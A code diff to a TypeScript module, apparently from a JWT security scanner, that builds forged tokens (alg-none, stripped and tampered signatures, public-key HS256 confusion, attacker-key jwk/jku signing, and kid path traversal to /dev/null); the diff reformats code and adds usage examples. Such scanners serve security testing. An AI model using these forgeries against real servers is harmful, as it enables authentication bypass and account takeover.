@@ -37,7 +37,12 @@ export function algNoneForgeries(jwt: DecodedJwt): Forgery[] {
   for (const alg of NONE_SPELLINGS) {
     const header = { ...jwt.header, alg };
     const input = `${base64UrlEncode(JSON.stringify(header))}.${jwt.rawPayload}`;
-    out.push({ technique: "alg-none", variant: `alg "${alg}", empty signature`, header, token: `${input}.` });
+    out.push({
+      technique: "alg-none",
+      variant: `alg "${alg}", empty signature`,
+      header,
+      token: `${input}.`,
+    });
     out.push({
       technique: "alg-none",
       variant: `alg "${alg}", original signature kept`,
@@ -51,6 +56,11 @@ export function algNoneForgeries(jwt: DecodedJwt): Forgery[] {
 /**
  * The original header and payload with the signature removed: accepted only by a server that
  * decodes without verifying.
+ *
+ * @example
+ * ```ts
+ * strippedSignatureForgery(jwt).token; // "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0."
+ * ```
  */
 export function strippedSignatureForgery(jwt: DecodedJwt): Forgery {
   return {
@@ -64,6 +74,11 @@ export function strippedSignatureForgery(jwt: DecodedJwt): Forgery {
 /**
  * The original token with its signature altered (first byte flipped): the control of the
  * forgeries. A server that accepts it verifies no signature at all.
+ *
+ * @example
+ * ```ts
+ * const control = tamperedSignature(jwt); // same header and payload, signature with its first byte flipped
+ * ```
  */
 export function tamperedSignature(jwt: DecodedJwt): string {
   const signature = Buffer.from(jwt.rawSignature, "base64url");
@@ -75,16 +90,29 @@ export function tamperedSignature(jwt: DecodedJwt): string {
 /**
  * RS/ES -> HS confusion (RFC 8725 2.1): HS256 tokens whose HMAC key is the text of the server's
  * public key, in each PEM spelling given.
+ *
+ * @example
+ * ```ts
+ * keyConfusionForgeries(jwt, { source: "JWKS", pems: [pem, pem.trimEnd()] }).length; // 2
+ * ```
  */
 export function keyConfusionForgeries(
   jwt: DecodedJwt,
   key: { readonly source: string; readonly kid?: string; readonly pems: readonly string[] },
 ): Forgery[] {
   return key.pems.map((pem, i) => {
-    const header: JsonObject = { ...jwt.header, alg: "HS256", ...(key.kid ? { kid: key.kid } : {}) };
+    const header: JsonObject = {
+      ...jwt.header,
+      alg: "HS256",
+      ...(key.kid ? { kid: key.kid } : {}),
+    };
     const input = `${base64UrlEncode(JSON.stringify(header))}.${jwt.rawPayload}`;
     const signature = createHmac("sha256", pem).update(input).digest();
-    const kind = pem.includes("BEGIN RSA PUBLIC KEY") ? "PKCS#1" : pem.includes("CERTIFICATE") ? "certificate" : "SPKI";
+    const kind = pem.includes("BEGIN RSA PUBLIC KEY")
+      ? "PKCS#1"
+      : pem.includes("CERTIFICATE")
+        ? "certificate"
+        : "SPKI";
     return {
       technique: "key-confusion",
       variant: `HS256 keyed with the public key (${key.source}, ${kind} PEM ${pem.endsWith("\n") ? "with" : "without"} final newline, #${i + 1})`,
@@ -105,14 +133,32 @@ export interface AttackerKey {
 /**
  * Generates the attacker's key: EC P-256 (ES256), fast to make and accepted wherever a `jwk`
  * or `jku` header is trusted.
+ *
+ * @example
+ * ```ts
+ * const key = createAttackerKey();
+ * key.jwk.kty; // "EC"
+ * ```
  */
 export function createAttackerKey(kid = "rampart-scan"): AttackerKey {
   const { privateKey, publicKey } = generateKeyPairSync("ec", { namedCurve: "P-256" });
-  const jwk = { ...publicKey.export({ format: "jwk" }), kid, alg: "ES256", use: "sig" } as JsonObject;
+  const jwk = {
+    ...publicKey.export({ format: "jwk" }),
+    kid,
+    alg: "ES256",
+    use: "sig",
+  } as JsonObject;
   return { privateKey, jwk, kid };
 }
 
-/** Signs the original payload with the attacker's key under the given header (ES256). */
+/**
+ * Signs the original payload with the attacker's key under the given header (ES256).
+ *
+ * @example
+ * ```ts
+ * signWithAttackerKey(jwt, key, "jwk-injection", "embedded jwk", { jwk: key.jwk }).header.alg; // "ES256"
+ * ```
+ */
 export function signWithAttackerKey(
   jwt: DecodedJwt,
   key: AttackerKey,
@@ -122,16 +168,28 @@ export function signWithAttackerKey(
 ): Forgery {
   const header: JsonObject = { typ: jwt.header.typ ?? "JWT", ...extra, alg: "ES256" };
   const input = `${base64UrlEncode(JSON.stringify(header))}.${jwt.rawPayload}`;
-  const signature = sign("sha256", Buffer.from(input), { key: key.privateKey, dsaEncoding: "ieee-p1363" });
+  const signature = sign("sha256", Buffer.from(input), {
+    key: key.privateKey,
+    dsaEncoding: "ieee-p1363",
+  });
   return { technique, variant, header, token: `${input}.${base64UrlEncode(signature)}` };
 }
 
 /**
  * `kid` path traversal: HS256 signed with an empty key and a `kid` naming /dev/null, accepted by
  * servers that read the key from the file the token names (RFC 8725 3.10).
+ *
+ * @example
+ * ```ts
+ * kidTraversalForgery(jwt).header.kid; // "../../../../../../../../dev/null"
+ * ```
  */
 export function kidTraversalForgery(jwt: DecodedJwt): Forgery {
-  const header: JsonObject = { ...jwt.header, alg: "HS256", kid: "../../../../../../../../dev/null" };
+  const header: JsonObject = {
+    ...jwt.header,
+    alg: "HS256",
+    kid: "../../../../../../../../dev/null",
+  };
   const input = `${base64UrlEncode(JSON.stringify(header))}.${jwt.rawPayload}`;
   // The contents of /dev/null: an empty HMAC key.
   const signature = createHmac("sha256", "").update(input).digest();
